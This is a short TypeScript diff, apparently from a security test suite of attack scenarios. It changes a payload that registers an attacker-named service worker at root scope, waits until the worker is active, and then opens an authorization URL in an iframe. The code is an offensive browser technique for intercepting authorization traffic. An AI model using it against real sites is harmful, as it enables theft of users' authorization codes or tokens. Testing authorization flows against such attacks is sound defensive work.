@@ -10,10 +10,10 @@ export default attack({
     navigator.serviceWorker.startMessages();
   },
   async payload(it) {
-    await navigator.serviceWorker
-      .register(it.scriptUrl("/worker-of-the-attacker.js"), { scope: "/" })
-      .catch((error: unknown) => it.steal(String(error)));
-    await it.pause(300);
+    const registration = await navigator.serviceWorker.register(it.scriptUrl("/worker-of-the-attacker.js"), {
+      scope: "/",
+    });
+    while (!registration.active?.scriptURL.endsWith("/worker-of-the-attacker.js")) await it.pause(50);
     const frame = document.createElement("iframe");
     frame.src = it.authorizationUrl();
     document.body.append(frame);
